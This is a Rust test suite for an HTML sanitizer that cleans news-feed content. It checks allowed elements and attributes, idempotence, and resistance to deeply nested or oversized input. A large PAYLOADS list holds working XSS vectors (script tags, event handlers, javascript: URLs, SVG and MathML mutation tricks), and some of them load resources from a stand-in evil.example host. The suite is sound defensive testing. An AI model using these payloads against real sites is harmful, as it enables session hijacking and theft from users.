//! The cleaner's promises: nothing that acts gets through, what is clean stays as it is, and no input makes it work hard.

use prose::{BLOCK_DEPTH_MAX, Document, Pictures, clean};
use url::Url;

fn base() -> Url {
    Url::parse("https://feed.example/news/today").expect("a constant")
}

/// Fails if `html` holds anything that acts, foreign or styled; `from` names the input.
fn assert_inert(html: &str, from: &str) {
    let tree = dom_query::Document::fragment(html);
    let elements = [
        "a",
        "blockquote",
        "br",
        "code",
        "em",
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "hr",
        "img",
        "li",
        "ol",
        "p",
        "pre",
        "span",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    for node in tree.root().descendants().into_iter().filter(|node| node.is_element()) {
        let name = node.node_name().expect("an element has a name");
        // The parser wraps a fragment in an element of its own.
        if &*name == "html" {
            continue;
        }
        assert!(elements.contains(&&*name), "<{name}> from {from}\n{html}");
        for attribute in node.attrs() {
            let (key, value) = (&*attribute.name.local, &*attribute.value);
            let known = match (&*name, key) {
                ("a", "href") => {
                    value.starts_with("https://") || value.starts_with("http://") || value.starts_with("mailto:")
                }
                ("img", "src") => value.starts_with("https://") || value.starts_with("http://"),
                ("img", "alt") => true,
                ("span", "class") => value == "credit",
                _ => false,
            };
            assert!(known, "{key}={value:?} from {from}\n{html}");
        }
    }
}

fn assert_settled(html: &str) -> Document {
    let once = clean(html, &base());
    once.check().unwrap_or_else(|fault| panic!("{fault}: {html}"));
    let page = once.to_html(Pictures::AsTheyAre);
    assert_inert(page.as_str(), html);
    let twice = clean(page.as_str(), &base());
    assert_eq!(twice, once, "from {html:?} by way of {:?}", page.as_str());
    once
}

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img src=\"x\" \u{0}onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img srcset='javascript:alert(1) 2x'>",
    "<img src=`x`onerror=alert(1)>",
    "<image xlink:href=javascript:alert(1) src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=blob:https://a.example/x>x</a>",
    "<a href=//evil.example style=position:fixed>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>",
    "<a href=https://ok.example/ onmouseover=alert(1) target=_blank ping=//evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><annotation-xml encoding=text/html><p><style><!--</style><img src onerror=alert(1)>--></style>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example/p.gif)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    "<table background=javascript:alert(1)><tr><td background=x>y",
    "<div id=location name=cookie>x</div>",
    "<p class='admin-panel overlay'>x</p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><a href=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<x-card onclick=alert(1) style=x>y</x-card>",
    "<a><b onclick=alert(1)><table><td><a href=javascript:x>",
    "</p onclick=alert(1)><br onclick=alert(1)>",
    "<p>\u{9b}31m\u{202e}gnp.exe\u{85}</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<code>&lt;img src=x onerror=alert(1)&gt;</code>",
    "<img alt='\"><script>alert(1)</script>' src=/x.jpg>",
    "<figure><img src=/x.jpg><figcaption><script>alert(1)</script><a href=javascript:x>y</a></figcaption></figure>",
    "<div><!-- <p --><img src=x onerror=alert(1)",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite=javascript:alert(1)>x</blockquote>",
];

#[test]
fn no_payload_acts() {
    assert!(PAYLOADS.len() >= 60);
    for payload in PAYLOADS {
        assert_settled(payload);
        assert_settled(&format!("<p>before {payload} after</p>"));
        assert_settled(&format!("<table><tr><td>a<td>{payload}</table><ul><li>{payload}"));
    }
}

#[test]
fn payloads_nested_in_payloads_do_not_act() {
    for outer in PAYLOADS.iter().filter(|outer| outer.contains("alert(1)")) {
        for inner in PAYLOADS.iter().step_by(5) {
            let html = outer.replacen("alert(1)", inner, 1);
            assert_inert(clean(&html, &base()).to_html(Pictures::AsTheyAre).as_str(), &html);
        }
    }
}

/// A small generator of its own: the same inputs on every machine.
struct Chance(u64);

impl Chance {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % limit as u64) as usize
    }

    fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }
}

fn soup(chance: &mut Chance) -> String {
    const TAGS: &[&str] = &[
        "p",
        "div",
        "b",
        "i",
        "strong",
        "em",
        "a",
        "ul",
        "ol",
        "li",
        "blockquote",
        "figure",
        "figcaption",
        "img",
        "br",
        "hr",
        "table",
        "tr",
        "td",
        "th",
        "thead",
        "tbody",
        "h1",
        "h2",
        "h3",
        "h5",
        "pre",
        "code",
        "sub",
        "sup",
        "span",
        "q",
        "font",
        "section",
        "x-y",
        "dl",
        "dt",
        "dd",
        "caption",
        "center",
        "article",
        "small",
        "form",
        "listing",
        "image",
    ];
    const ATTRIBUTES: &[&str] = &[
        "",
        "",
        " href=/a",
        " href='https://a.example/?q=1&amp;b=2'",
        " href=javascript:x",
        " src=b.jpg",
        " src=https://a.example/c.png alt='x  y'",
        " class=photo-credit",
        " class=credit",
        " onclick=x",
        " style='x'",
        " href='mailto:a@b.example'",
        " title=\"<p>\"",
        " href='#x'",
        " alt=' '",
    ];
    const TEXTS: &[&str] = &[
        "word",
        " two words ",
        "\n",
        "  ",
        "&nbsp;",
        "&lt;b&gt;",
        "&amp;amp;",
        "x\u{9b}y",
        "مرحبا",
        "港口",
        "<",
        "Photo: Ana Ruiz",
        "(Reuters)",
        "Photo by ",
        "\u{200b}",
        "é",
        ".",
        "\t",
        "\r\n",
        "&#13;",
        "©",
        " | ",
        "&#x202e;",
        "Above photo: ",
    ];
    let mut html = String::new();
    for _ in 0..chance.below(28) + 1 {
        match chance.below(5) {
            0 | 1 => html.push_str(&format!("<{}{}>", chance.one(TAGS), chance.one(ATTRIBUTES))),
            2 => html.push_str(&format!("</{}>", chance.one(TAGS))),
            _ => html.push_str(chance.one(TEXTS)),
        }
    }
    html
}

#[test]
fn what_is_clean_stays_as_it_is() {
    let mut chance = Chance(0x9e37_79b9_7f4a_7c15);
    for _ in 0..3_000 {
        assert_settled(&soup(&mut chance));
    }
}

#[test]
fn a_cleaned_document_survives_its_json() {
    let mut chance = Chance(7);
    for _ in 0..2_000 {
        let document = clean(&soup(&mut chance), &base());
        assert_eq!(Document::from_json(&document.to_json()), Ok(document));
    }
}

#[test]
fn a_hundred_thousand_nested_tags_are_nothing_special() {
    for tag in [
        "<div>",
        "<p>",
        "<b>",
        "<i><b>",
        "<a href=/x>",
        "<font size=7>",
        "<ul><li>",
        "<blockquote>",
        "<table><tr><td>",
        "<q>",
        "<svg>",
        "<pre>",
        "<figure><figcaption>",
        "<h2>",
        "<x-y>",
        "<span class=credit>",
        "<form>",
        "<select>",
        "<template>",
        "<dd><b>",
        "<nobr>",
    ] {
        let deep = clean(&format!("{}text", tag.repeat(100_000)), &base());
        assert_eq!(deep.check(), Ok(()), "{tag}");
        let html = format!("{}text", tag.repeat(500));
        assert_settled(&html);
        assert_settled(&format!("{html}{}", "</div></b></ul></blockquote></table>".repeat(100)));
    }
    let attributes = format!("<p {}>x", (0..100_000).map(|n| format!("a{n}=1 ")).collect::<String>());
    assert_eq!(clean(&attributes, &base()).plain_text(), "x");
    // Formatting elements left open are re-opened in every paragraph by a browser: quadratic, if nobody counts.
    let reopened =
        format!("{}{}", (0..1_000).map(|n| format!("<font color={n}>")).collect::<String>(), "<p>x".repeat(5_000));
    assert_settled(&reopened);
    assert_settled(&format!("<p title=\"{}", "x".repeat(10 << 20)));
    assert_settled(&"<".repeat(1 << 16));
    assert_settled(&"<!--".repeat(1 << 16));
    assert_settled(&"</".repeat(1 << 16));
    assert_settled(&"<script>".repeat(1 << 16));
    assert_settled(&"&".repeat(1 << 16));
}

#[test]
fn structure_comes_through() {
    let html = "<h1>Strike</h1>\n<p>The  <b>port</b> of <a href='../port'>Harbour<br></a></p>lone<p>\n</p>\
        <ul>\n<li>one<ul><li>deep</li></ul></li>\n<li><p>two</p></li></ul>\
        <figure class=wp><img data-src=/crane.jpg alt='The crane'><figcaption>At dawn. <span class=photo-credit>Photo: Ana Ruiz</span></figcaption></figure>\
        <table><tr><th>Ship<th>Day<tr><td>Aurora<td>Monday</table>\
        <blockquote><p>We leave.</p></blockquote><pre><code>a\n  b</code></pre>first<br><br>second";
    let page = assert_settled(html).to_html(Pictures::AsTheyAre);
    assert_eq!(
        page.as_str(),
        "<h2>Strike</h2>\n<p>The <strong>port</strong> of <a href=\"https://feed.example/port\">Harbour</a></p>\n<p>lone</p>\n\
         <ul><li>one<ul><li>deep</li></ul></li><li>two</li></ul>\n\
         <figure><img src=\"https://feed.example/crane.jpg\" alt=\"The crane\"><figcaption>At dawn. <span class=\"credit\">Ana Ruiz</span></figcaption></figure>\n\
         <table><thead><tr><th>Ship</th><th>Day</th></tr></thead><tbody><tr><td>Aurora</td><td>Monday</td></tr></tbody></table>\n\
         <blockquote><p>We leave.</p>\n</blockquote>\n<pre>\na\n  b</pre>\n<p>first</p>\n<p>second</p>\n"
    );
}

#[test]
fn a_table_that_lays_out_a_page_becomes_its_text() {
    let document =
        clean("<table><tr><td><p>One.</p><p>Two.</p><table><tr><td>in</td></tr></table></td></tr></table>", &base());
    assert_eq!(document.plain_text(), "One.\n\nTwo.\n\nin");
}

#[test]
fn a_relative_address_without_a_page_is_dropped() {
    let nowhere = Url::parse("about:blank").expect("a constant");
    let page = clean("<a href=/x>y</a> <a href=https://a.example/>z</a><img src=/p.jpg>", &nowhere)
        .to_html(Pictures::AsTheyAre);
    assert_eq!(page.as_str(), "<p>y <a href=\"https://a.example/\">z</a></p>\n");
}

#[test]
fn a_document_nests_no_deeper_than_its_limit() {
    let html = format!("{}deep", "<blockquote><ul><li>".repeat(40));
    let document = clean(&html, &base());
    assert!(document.plain_text().contains("deep"));
    assert!(document.to_html(Pictures::Linked).as_str().matches("<blockquote>").count() <= BLOCK_DEPTH_MAX);
}
